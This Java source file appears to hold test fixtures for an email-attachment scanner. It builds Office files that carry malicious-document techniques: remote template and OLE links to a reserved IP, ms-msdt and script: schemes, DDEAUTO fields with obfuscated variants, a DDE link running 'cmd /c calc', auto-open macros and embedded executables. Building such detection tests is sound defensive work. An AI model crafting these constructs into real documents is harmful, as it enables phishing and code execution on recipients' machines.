package org.inboxaudit.extract.attachment;

import static org.inboxaudit.extract.attachment.Shapes.leads;

import java.util.Map;

/// Documents that are archives underneath, with something in an unusual place.
final class OfficeShapes {
  private static final String MORE = "<d xmlns:w='w' xmlns:r='r'>";

  private OfficeShapes() {}

  static Map<String, byte[]> all() {
    Shapes shapes = new Shapes();
    relationships(shapes);
    fields(shapes);
    parts(shapes);
    slides(shapes);
    sheets(shapes);
    return shapes.all();
  }

  private static void relationships(Shapes shapes) {
    String web = "http://192.0.2.1/x";
    shapes
        .office("template.docx", "word/_rels/settings.xml.rels", leads("attachedTemplate", web))
        .office(
            "template on a share.docx",
            "word/_rels/settings.xml.rels",
            leads("attachedTemplate", "\\\\192.0.2.1\\x.dotm"))
        .office(
            "template by a handler.docx",
            "word/_rels/settings.xml.rels",
            leads("attachedTemplate", "mhtml:http://192.0.2.1/x!x-usc:http://192.0.2.1/x"))
        .office(
            "small letters.docx",
            "word/_rels/settings.xml.rels",
            leads("attachedTemplate", web).replace("External", "external"))
        .office(
            "blanks.docx", "word/_rels/settings.xml.rels", leads("attachedTemplate", "  " + web))
        .office(
            "entities.docx",
            "word/_rels/settings.xml.rels",
            leads("attachedTemplate", "&#104;&#x74;tp://192.0.2.1/x"))
        .office("frame.docx", "word/_rels/webSettings.xml.rels", leads("frame", web))
        .office("object.docx", "word/_rels/document.xml.rels", leads("oleObject", web + "!"))
        .office(
            "object with a scheme.docx",
            "word/_rels/document.xml.rels",
            leads("oleObject", "ms-msdt:/id x"))
        .office(
            "object by script.docx",
            "word/_rels/document.xml.rels",
            leads("oleObject", "script:http://192.0.2.1/x.sct"))
        .office("second document.docx", "word/_rels/document.xml.rels", leads("subDocument", web))
        .office("chunk.docx", "word/_rels/document.xml.rels", leads("aFChunk", web))
        .office("note.docx", "word/_rels/footnotes.xml.rels", leads("oleObject", web))
        .office("of the package.docx", "_rels/.rels", leads("officeDocument", web))
        .office("font.docx", "word/_rels/fontTable.xml.rels", leads("font", web))
        .office("data.docx", "customXml/_rels/item1.xml.rels", leads("x", web))
        .office(
            "picture on a share.docx",
            "word/_rels/document.xml.rels",
            leads("image", "file:////192.0.2.1/x.png"))
        .office(
            "link on a share.docx",
            "word/_rels/document.xml.rels",
            leads("hyperlink", "file://192.0.2.1/x/y.exe"))
        .office(
            "merge.docx",
            "word/_rels/settings.xml.rels",
            leads("mailMergeSource", "file://192.0.2.1/x"))
        .office(
            "in wide letters.docx",
            "word/_rels/settings.xml.rels",
            Shapes.latin(
                ("\ufeff" + leads("attachedTemplate", web))
                    .getBytes(java.nio.charset.StandardCharsets.UTF_16LE)))
        .office(
            "prefix.docx",
            "word/_rels/settings.xml.rels",
            leads("attachedTemplate", web)
                .replace("<Rel", "<a:Rel")
                .replace("<R ", "<R xmlns:a='a' "))
        .office(
            "strict.docx",
            "word/_rels/settings.xml.rels",
            leads("attachedTemplate", web)
                .replace("http://x/", "http://purl.oclc.org/ooxml/officeDocument/relationships/"))
        .office(
            "backslashes.docx", "word\\_rels\\settings.xml.rels", leads("attachedTemplate", web))
        .office("template.xltx", "xl/_rels/workbook.xml.rels", leads("attachedTemplate", web))
        .office(
            "master.pptx", "ppt/slideMasters/_rels/slideMaster1.xml.rels", leads("oleObject", web))
        .office(
            "show.pptx", "ppt/slides/_rels/slide1.xml.rels", leads("oleObject", "script:" + web))
        .office(
            "sound.pptx",
            "ppt/slides/_rels/slide1.xml.rels",
            leads("audio", "file://192.0.2.1/x.wav"));
  }

  private static void fields(Shapes shapes) {
    shapes
        .office(
            "simple field.docx",
            "word/document.xml",
            MORE + "<w:fldSimple w:instr='DDEAUTO c:\\\\x'/></d>")
        .office(
            "header.docx",
            "word/header1.xml",
            MORE + "<w:instrText>dde c:\\\\x y</w:instrText></d>")
        .office(
            "comment.docx",
            "word/comments.xml",
            MORE + "<w:instrText> DDE c:\\\\x y</w:instrText></d>")
        .office(
            "glossary.docx",
            "word/glossary/document.xml",
            MORE + "<w:instrText>DDE c:\\\\x y</w:instrText></d>")
        .office(
            "letters.docx",
            "word/document.xml",
            MORE
                + field(
                    "<w:instrText>D</w:instrText><w:instrText>D</w:instrText><w:t/><w:instrText>E c:\\\\x</w:instrText>")
                + "</d>")
        .office(
            "quoted numbers.docx",
            "word/document.xml",
            MORE
                + field(
                    field("<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>")
                        + "<w:instrText> c:\\\\x</w:instrText>")
                + "</d>")
        .office(
            "picture.docx",
            "word/document.xml",
            MORE + "<w:fldSimple w:instr='INCLUDEPICTURE \"\\\\\\\\192.0.2.1\\\\x.png\" \\d'/></d>")
        .office(
            "text.docx",
            "word/document.xml",
            MORE + "<w:fldSimple w:instr='INCLUDETEXT \"http://192.0.2.1/x\"'/></d>")
        .office(
            "link.docx",
            "word/document.xml",
            MORE
                + "<w:fldSimple w:instr='LINK Excel.Sheet \"\\\\\\\\192.0.2.1\\\\x.xlsx\" \\a'/></d>")
        .office(
            "database.docx",
            "word/document.xml",
            MORE + "<w:fldSimple w:instr='DATABASE \\d \"http://192.0.2.1/x\"'/></d>")
        .office(
            "set and used.docx",
            "word/document.xml",
            MORE
                + field("<w:instrText>SET a \"DDEAUTO\"</w:instrText>")
                + field(
                    field("<w:instrText>REF a</w:instrText>")
                        + "<w:instrText> c:\\\\x y</w:instrText>")
                + "</d>");
  }

  private static String field(String code) {
    return "<w:fldChar w:fldCharType='begin'/>" + code + "<w:fldChar w:fldCharType='end'/>";
  }

  private static void parts(Shapes shapes) {
    String macro = Shapes.latin(SampleFiles.oldMacroDocument());
    String rtf = "{\\rtf1{\\*\\template http://192.0.2.1/x}}";
    shapes
        .office("ribbon.docx", "customUI/customUI14.xml", "<customUI onLoad='Run'/>")
        .office(
            "ribbon elsewhere.docx", "userCustomization/customUI.xml", "<customUI onLoad='Run'/>")
        .office("project.docx", "word/theme/theme1.xml", macro)
        .office("project as a picture.pptx", "ppt/media/image1.png", macro)
        .office("broken project.docm", "word/vbaProject.bin", macro.substring(0, 3000))
        .office(
            "names of a project.docm",
            "word/vbaData.xml",
            "<x/>",
            "word/_rels/document.xml.rels",
            "<R><Relationship Type='http://x/vbaProject' Target='vbaProject.bin'/></R>")
        .office(
            "program.docx",
            "word/embeddings/oleObject1.bin",
            Shapes.latin(SampleFiles.documentHolding("a.exe", SampleFiles.program())))
        .office(
            "old drawing.docx",
            "word/vmlDrawing1.vml",
            "<v:shape><v:imagedata src=\"\\\\192.0.2.1\\x.png\"/>")
        .office(
            "program by itself.docx", "word/embeddings/a.exe", Shapes.latin(SampleFiles.program()))
        .office(
            "chunk.docx.docx",
            "word/afchunk.mht",
            "MIME-Version: 1.0\nContent-Type: text/html\n\n<script>1</script>")
        .office("chunk of text.docx", "word/afchunk1.dat", rtf)
        .office("control.xlsx", "xl/activeX/activeX1.bin", "x")
        .office(
            "form control.docx",
            "word/activeX/activeX1.xml",
            "<ax:ocx xmlns:ax='x' ax:classid='{8856F961-340A-11D0-A96B-00C04FD705A2}'/>")
        .office(
            "type.docx",
            "word/document.xml",
            MORE + "<o:OLEObject xmlns:o='o' Type='Link' ProgID='htmlfile' r:id='r1'/></d>",
            "word/_rels/document.xml.rels",
            leads("oleObject", "http://192.0.2.1/x"))
        .add(
            "archive inside.docx",
            SampleContainers.zip(
                "word/document.xml", SampleContainers.zip("a.exe", SampleFiles.program())))
        .add("document under another name.jpg", SampleFiles.macroDocument())
        .add("document in a message.dat", SampleFiles.macroDocument())
        .add("locked.docx", SampleFiles.lockedDocument())
        .add("locked parts.docx", SampleContainers.lockedZip("word/document.xml", new byte[9]))
        .office("printer.docx", "word/printerSettings1.bin", Shapes.latin(SampleFiles.program()))
        .office("shortcut.xlsx", "xl/media/image1.emf", Shapes.latin(SampleFiles.shortcut()));
  }

  private static void slides(Shapes shapes) {
    String hover =
        "<p:sld xmlns:p='p' xmlns:a='a'><a:hlinkHover action='ppaction://program'/></p:sld>";
    shapes
        .office("hover.pptx", "ppt/slides/slide1.xml", hover)
        .office("hover in a layout.pptx", "ppt/slideLayouts/slideLayout1.xml", hover)
        .office("hover in a master.ppsx", "ppt/slideMasters/slideMaster1.xml", hover)
        .office(
            "object by a click.pptx",
            "ppt/slides/slide1.xml",
            hover.replace("program", "ole?verb=0"))
        .office(
            "program by a link.ppsx",
            "ppt/slides/slide1.xml",
            hover,
            "ppt/slides/_rels/slide1.xml.rels",
            leads("hyperlink", "file:///C:\\Windows\\System32\\cmd.exe"))
        .office(
            "task pane.docx",
            "word/webextensions/webextension1.xml",
            "<we:webextension xmlns:we='w'><we:reference id='x' store='\\\\192.0.2.1\\x' storeType='Filesystem'/></we:webextension>");
  }

  private static void sheets(Shapes shapes) {
    shapes
        .office("international macros.xlsm", "xl/macrosheets/intlsheet1.xml", "<x/>")
        .office("binary macros.xlsb", "xl/macrosheets/sheet1.bin", "x")
        .office(
            "dialog.xlsm",
            "xl/dialogsheets/sheet1.xml",
            "<x/>",
            "xl/_rels/workbook.xml.rels",
            "<R><Relationship Type='http://x/xlMacrosheet' Target='dialogsheets/sheet1.xml'/></R>")
        .office(
            "link to a program.xlsx",
            "xl/externalLinks/externalLink1.xml",
            "<x><ddeLink ddeService='cmd' ddeTopic='/c calc'/></x>")
        .office(
            "link to a book.xlsx",
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            leads("externalLinkPath", "http://192.0.2.1/x.xlsx"))
        .office(
            "query.xlsx",
            "xl/connections.xml",
            "<c><connection refreshOnLoad='true'><dbPr connection='Provider=x;Data Source=http://192.0.2.1/x'/></connection></c>")
        .office(
            "old call.xlsx",
            "xl/workbook.xml",
            "<w><definedName name='_xlnm.Auto_Open'>Macro1!A1</definedName></w>",
            "xl/macrosheets/sheet1.xml",
            "<x/>");
  }
}
